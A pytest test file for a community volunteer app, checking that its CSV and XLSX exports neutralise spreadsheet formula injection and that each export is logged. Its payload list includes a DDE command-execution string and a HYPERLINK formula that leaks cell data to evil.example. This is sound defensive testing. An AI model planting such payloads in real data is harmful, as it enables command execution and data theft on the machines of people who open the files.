"""A file that leaves: nothing in it comes alive in a spreadsheet program, and it is noted who took how much."""

import csv
import io
import json
import os
import re
import stat
import zipfile
from pathlib import Path

import pytest

from community.commands.opening import open_book
from community.settings import load
from tests.book.builders import make_volunteer
from tests.book.town import Town
from tests.commands.household import Run

# Where somebody types them: a name. From lists of what spreadsheet programs are known to run.
LIVE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u3000@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1",
]
BEGINS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20|%")


@pytest.fixture
def typed(town: Town) -> None:
    book = open_book(load())
    for text in LIVE:
        book.append("volunteers", make_volunteer(name=text), by="web")
    book.close()


def noted(home: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in (home / "exports.jsonl").read_text("utf-8").splitlines()]


@pytest.mark.usefixtures("typed")
def test_nothing_in_a_csv_file_comes_alive(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "list.csv"
    run("show", "volunteers", "--personal", "--to", str(file))
    heading, *rows = csv.reader(io.StringIO(file.read_text("utf-8-sig"), newline=""))
    assert len(rows) == 2 + len(LIVE)
    assert not [cell for row in rows for cell in row if cell.strip(" \u200b\u3000").startswith(BEGINS)]
    names = {row[heading.index("name")] for row in rows}
    assert {"'=1+1", "'+44 7700 900123", "'\uff1d1+1"} <= names, "what was typed is still there to be read"
    if os.name == "posix":  # Windows tells no such modes
        assert stat.S_IMODE(file.stat().st_mode) == 0o600


@pytest.mark.usefixtures("typed")
def test_every_cell_of_an_xlsx_file_is_text(run: Run, tmp_path: Path) -> None:
    file = tmp_path / "list.xlsx"
    run("show", "volunteers", "--personal", "--to", str(file))
    with zipfile.ZipFile(file) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not [each for each in parts.namelist() if "external" in each.lower() or "vba" in each.lower()]
        assert "=1+1" in parts.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    kinds = re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="(\w+)")?>', sheet)
    assert kinds
    assert set(kinds) == {"s"}


def test_it_is_noted_who_took_how_much_and_never_what(run: Run, town: Town, home: Path, tmp_path: Path) -> None:
    run("show", "volunteers")
    assert not (home / "exports.jsonl").exists(), "nothing about a person left"
    run("show", "volunteers", "--json")
    run("show", "volunteers", "--personal", "--to", str(tmp_path / "a.csv"))
    run("export-person", town.volunteer)
    run("backup", str(tmp_path / "b.zip"))
    told = noted(home)
    assert [(one["kind"], one["form"]) for one in told] == [
        ("show volunteers", "json"),
        ("show volunteers", "csv"),
        ("export-person", "json and txt"),
        ("backup", "zip"),
    ]
    assert all(one["by"] and one["at"] and isinstance(one["rows"], int) and one["rows"] > 0 for one in told)
    assert all(set(one) == {"at", "by", "kind", "form", "rows"} for one in told)
    if os.name == "posix":  # Windows tells no such modes
        assert stat.S_IMODE((home / "exports.jsonl").stat().st_mode) == 0o600


def test_what_can_not_be_noted_does_not_leave(run: Run, town: Town, home: Path, tmp_path: Path) -> None:
    (home / "exports.jsonl").mkdir()
    result = run("show", "volunteers", "--json", code=1)
    assert town.volunteer not in result.stdout
    run("show", "volunteers", "--to", str(tmp_path / "a.csv"), code=1)
    assert not (tmp_path / "a.csv").exists()


@pytest.mark.parametrize("name", ["list.txt", "list"])
def test_only_files_that_are_made_safe_can_be_asked_for(run: Run, town: Town, tmp_path: Path, name: str) -> None:
    assert ".csv or .xlsx" in run("show", "volunteers", "--to", str(tmp_path / name), code=2).stderr
